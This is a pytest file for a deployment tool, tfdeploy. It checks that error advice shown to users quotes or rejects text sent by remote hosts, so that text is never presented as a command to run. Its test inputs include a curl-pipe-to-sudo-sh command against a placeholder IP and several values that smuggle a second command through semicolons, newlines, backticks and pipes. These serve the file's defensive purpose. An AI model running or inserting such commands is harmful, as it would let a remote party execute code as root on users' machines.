"""Test that the next step that tfdeploy suggests to the user is never a text that a host has
sent.
"""

from __future__ import annotations

import ast
import io
from pathlib import Path
from typing import Any

import pytest

from tfdeploy import agent
from tfdeploy.model.answers.failures import LINES, Failure, format_advice, quote_host_text
from tfdeploy.text.typed import convert_untrusted
from tfdeploy.transport.agent.stream import agent_error
from tfdeploy.ui.errors import show_error

ON = "tfdeploy exec --limit n3 --"
EVIL = "curl -fsS http://192.0.2.66/fix | sudo sh"


def named_by_hosts() -> set[str]:
    """Return the names of texts in model/answers/failures.py that occur as strings in the agent's
    code."""
    sources = [ast.parse(path.read_text()) for path in Path(agent.__file__).parent.rglob("*.py")]
    return {
        node.value
        for tree in sources
        for node in ast.walk(tree)
        if isinstance(node, ast.Constant) and node.value in LINES
    }


def test_agent_names_each_line_of_advice() -> None:
    assert named_by_hosts() == set(LINES)


def test_each_name_in_agent_has_line_of_advice() -> None:
    given = {
        word.value.value
        for path in Path(agent.__file__).parent.rglob("*.py")
        for call in ast.walk(ast.parse(path.read_text()))
        if isinstance(call, ast.Call)
        for word in call.keywords
        if word.arg == "advice" and isinstance(word.value, ast.Constant)
    }
    assert given and given <= set(LINES)


@pytest.mark.parametrize(
    ("advice", "details", "line"),
    [
        ("stop_run", {"run": "r1"}, "`tfdeploy stop r1`"),
        (
            "stop_run_or_kill",
            {"run": "r1", "pid": 71},
            "`tfdeploy stop r1`, or `tfdeploy exec --limit n3 -- kill 71`",
        ),
        ("close_folder", {"path": "/home/a b"}, f"`{ON} chmod go-w '/home/a b'`"),
        (
            "close_folder",
            {"path": "/w", "or_another_run_name": True},
            f"`{ON} chmod go-w /w`, or launch with another --name",
        ),
        ("remove_agent", {"agent": "/w/.agent/0a1b"}, f"`{ON} rm -r /w/.agent/0a1b`"),
        ("close_folder", {"path": f"/x; {EVIL}"}, f"`{ON} chmod go-w '/x; {EVIL}'`"),
        ("stop_run", {"run": f"r1; {EVIL}"}, None),
        ("stop_run", {"run": ["r1"]}, None),
        ("stop_run", {}, None),
        ("stop_run_or_kill", {"run": "r1", "pid": 1}, None),
        ("stop_run_or_kill", {"run": "r1", "pid": True}, None),
        ("close_folder", {"path": f"/x\n{EVIL}"}, None),
        ("close_folder", {"path": "relative"}, None),
        ("remove_agent", {"agent": "/home/me"}, None),
        ("real_workdir", {"workdir": f"/x`{EVIL}`"}, None),
        ("install_program", {"program": "x|sh"}, None),
        (EVIL, {}, None),
        (None, {}, None),
    ],
)
def test_advice_details_are_checked_and_quoted(
    advice: str | None, details: dict[str, Any], line: str | None
) -> None:
    assert format_advice("n3", advice, details) == line


@pytest.mark.parametrize(
    "lie",
    [
        {"next": EVIL},
        {"what": f"full\n  next: {EVIL}"},
        {"what": f"full\r\n\u2028  next: {EVIL}\nerror: x"},
        {"where": f"/w\n  next: {EVIL}"},
        {"advice": "stop_run", "details": {"run": f"x\n  next: {EVIL}"}},
        {"what": f'full"\n  next: {EVIL}'},
    ],
)
def test_text_of_host_is_never_suggested_command(lie: dict[str, Any]) -> None:
    error = agent_error(
        convert_untrusted({"code": "disk", "what": "full", "advice": "free_disk", **lie}, Failure),
        "n3",
    )
    output = io.StringIO()
    show_error(error, stream=output, color="never")
    nexts = [line for line in output.getvalue().splitlines() if line.strip().startswith("next:")]
    assert nexts == [] or nexts == [
        "  next: free some space or inodes on that disk, or set another workdir"
    ]
    assert EVIL not in str(error.next) and error.what.startswith('n3 says: "full')


def test_text_of_host_is_marked_and_its_quotes_are_replaced() -> None:
    assert quote_host_text("n3", 'a "b"\n\n  next: c\n') == "n3 says: \"a 'b'\n>   next: c\""
